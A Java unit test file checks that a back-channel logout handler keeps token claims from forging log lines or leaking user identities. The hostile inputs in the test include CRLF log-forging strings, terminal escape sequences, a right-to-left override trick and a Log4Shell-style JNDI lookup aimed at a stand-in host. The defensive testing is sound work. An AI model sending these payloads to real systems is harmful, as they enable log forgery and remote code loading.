package io.curfew.backchannel;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.jwk.RSAKey;
import io.curfew.ground.LogoutTokenBuilder;
import io.curfew.ground.Registrations;
import io.curfew.ground.SettableClock;
import io.curfew.ground.TestKeys;
import io.curfew.provider.SigningKeyVerdict;
import java.security.PublicKey;
import java.util.ArrayList;
import java.util.List;
import java.util.logging.Handler;
import java.util.logging.Level;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import java.util.logging.SimpleFormatter;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The attack: what a token claims becomes a log line of its own, a terminal's command, or a format to fill in. */
class LogInjectionTest {
    private static final String ISSUER = "https://id.example.com";
    private static final RSAKey KEY = TestKeys.rsa("key-1");

    private final SettableClock clock = new SettableClock();
    private final Logger logger = Logger.getLogger(BackChannelLogout.class.getName());
    private final List<String> lines = new ArrayList<>();
    private final Handler handler = new Handler() {
        private final SimpleFormatter formatter = new SimpleFormatter();

        @Override
        public void publish(LogRecord entry) {
            lines.add(formatter.formatMessage(entry));
        }

        @Override
        public void flush() {}

        @Override
        public void close() {}
    };
    private final BackChannelLogout logout = new BackChannelLogout(
            new LogoutTokenVerifier(
                    List.of(Registrations.at(ISSUER, "gateway")),
                    (registration, kid) -> new SigningKeyVerdict.Found(publicKey()),
                    clock),
            new RecordingSessions(),
            new BackChannelCounters(),
            clock);

    @BeforeEach
    void listen() {
        handler.setLevel(Level.ALL);
        logger.addHandler(handler);
    }

    @AfterEach
    void listenNoMore() {
        logger.removeHandler(handler);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "one\r\nINFO: Logout token carried out: sessions=9",
                "one\ntwo",
                "\u001b[2J\u001b]0;owned\u0007",
                "a\u2028b\u2029c\u0085d",
                "\u202egnp.exe",
                "{0} {1} ${jndi:ldap://evil.example/a} %s %n"
            })
    void whatATokenClaimsStaysOneLineOfVisibleText(String hostile) {
        assertInstanceOf(
                BackChannelLogoutOutcome.Ended.class,
                logout.logout(valid().claim("jti", hostile)
                        .claim("sid", hostile)
                        .claim("sub", hostile)
                        .build()));
        assertInstanceOf(
                BackChannelLogoutOutcome.Refused.class,
                logout.logout(
                        valid().claim("jti", hostile).claim("iss", hostile).build()));

        assertEquals(2, lines.size());
        for (String line : lines) {
            assertTrue(line.chars().allMatch(c -> c >= 0x20 && c < 0x7f), line);
        }
        assertTrue(lines.get(0).startsWith("Logout token carried out: sessions=0 iss="), lines.get(0));
        assertTrue(lines.get(1).startsWith("Logout token refused: code=unknown_issuer claimed-iss="), lines.get(1));
    }

    @Test
    void whatIsLongIsCutAndWhoItIsIsNotTold() {
        logout.logout(valid().claim("jti", "j".repeat(1000))
                .claim("sid", "sid-of-alice")
                .claim("sub", "alice@example.com")
                .build());

        assertEquals(1, lines.size());
        assertTrue(lines.get(0).length() < 400, lines.get(0));
        assertFalse(lines.get(0).contains("alice"), lines.get(0));
    }

    private LogoutTokenBuilder valid() {
        return LogoutTokenBuilder.valid(ISSUER, "gateway", KEY, clock.instant());
    }

    private static PublicKey publicKey() {
        try {
            return KEY.toPublicKey();
        } catch (JOSEException e) {
            throw new IllegalStateException(e);
        }
    }
}
